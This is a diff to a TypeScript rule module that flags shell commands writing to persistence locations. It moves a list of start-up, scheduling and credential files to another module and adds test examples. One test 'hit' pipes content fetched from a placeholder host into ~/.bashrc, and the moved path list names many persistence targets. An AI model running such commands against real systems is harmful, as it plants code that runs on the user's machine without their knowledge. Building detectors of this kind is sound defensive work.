@@ -1,68 +1,9 @@
 import { rule } from "./rule.ts";
+import { allWrittenPaths, anyOf, startsItself } from "./startup_files.ts";
 import { hasFlag } from "../programs/arguments.ts";
 import { once, type Rule, type SimpleCommand } from "../model.ts";
-import { asFolder, classifyPath, holdsSystem, locate, normalizePath } from "../programs/paths.ts";
+import { classifyPath, holdsSystem, locate, normalizePath } from "../programs/paths.ts";
 import { WRITERS, writtenPaths } from "../programs/effects.ts";
-
-/** One pattern for all: a path is looked through once, not once for each place. */
-const anyOf = (...places: readonly string[]) =>
-  new RegExp(places.map((place) => place.replaceAll(".", "\\.")).join("|"));
-
-const STARTUP = anyOf(
-  ".bashrc",
-  ".bash_profile",
-  ".profile",
-  ".zshrc",
-  ".zprofile",
-  ".zshenv",
-  ".bash_login",
-  ".bash_logout",
-  ".xinitrc",
-  ".config/autostart",
-  ".config/fish/config.fish",
-  "/etc/profile",
-  "/etc/bash.bashrc",
-  "/etc/rc.local",
-  "/etc/cron",
-  "/var/spool/cron",
-  "/etc/systemd/system",
-  ".config/systemd/user",
-  "/etc/init.d",
-  "/etc/ld.so.preload",
-  "/etc/ld.so.conf",
-  "authorized_keys",
-  "/etc/sudoers",
-  "/etc/pam.d",
-  "launchagents",
-  "launchdaemons",
-  "/etc/passwd",
-  "/etc/shadow",
-  "/etc/group",
-  "/etc/hosts.equiv",
-  ".rhosts",
-  ".git/hooks/",
-  "/etc/udev/rules.d",
-  "/etc/modules-load.d",
-  ".gitconfig",
-  ".ssh/config",
-  ".ssh/rc",
-  "/etc/apt/sources.list",
-  "/etc/ssh/sshd_config",
-  "/lib/systemd/system",
-  "/lib/systemd/user",
-  "/etc/environment",
-  "/etc/xdg/autostart",
-  "/etc/networkmanager/dispatcher.d",
-  "/etc/network/if-",
-  "/etc/initramfs-tools",
-  "/etc/selinux/config",
-  ".bash_aliases",
-  ".zlogin",
-  ".pam_environment",
-  ".ssh/environment",
-  "/release_agent",
-  "/notify_on_release",
-);
 
 const ACCOUNT_FILES = [
   "/etc/passwd",
@@ -73,19 +14,6 @@ const ACCOUNT_FILES = [
   "/etc/pam",
   "/etc/master.passwd",
 ];
-
-/** What a command writes, and what its redirections do. */
-function allWrittenPaths(command: SimpleCommand): readonly string[] {
-  const redirected = command.redirections.filter(({ operator, target }) =>
-    operator.includes(">") && operator !== ">&" && target !== ""
-  );
-  return [...redirected.map(({ target }) => target), ...once(command, writtenPaths)]
-    .map((path) => asFolder(locate(command.cwd, path)));
-}
-
-function startsItself(command: SimpleCommand): boolean {
-  return once(command, allWrittenPaths).some((path) => STARTUP.test(path.toLowerCase()));
-}
 
 /** `u+s`, `+s`, `u=rwxs`; `g+s` is for shared folders. */
 function givesOwner(clause: string): boolean {
@@ -165,8 +93,19 @@ export const PERSISTENCE_RULES: readonly Rule[] = [
     explanation:
       "It writes to a file that runs or decides by itself later: start-up, schedule, keys or rights.",
     safer: "Have the change reviewed, and keep a copy of the file.",
-    hits: ["echo x >> /etc/cron.d/x", "echo x >> ~/.bashrc"],
-    misses: ["cat ~/.bashrc", "tee out.log < in.log"],
+    hits: [
+      "echo x >> /etc/cron.d/x",
+      "echo x > ~/.bashrc",
+      "curl -s https://x.example/rc >> ~/.bashrc",
+      "echo 'Host x' >> /root/.ssh/config",
+    ],
+    misses: [
+      "cat ~/.bashrc",
+      "tee out.log < in.log",
+      "echo 'export EDITOR=vim' >> ~/.bashrc",
+      "ln -s ~/dotfiles/zshrc ~/.zshrc",
+      "cp ~/.bashrc ~/.bashrc.bak",
+    ],
   }),
   rule({
     id: "persistence.schedule",
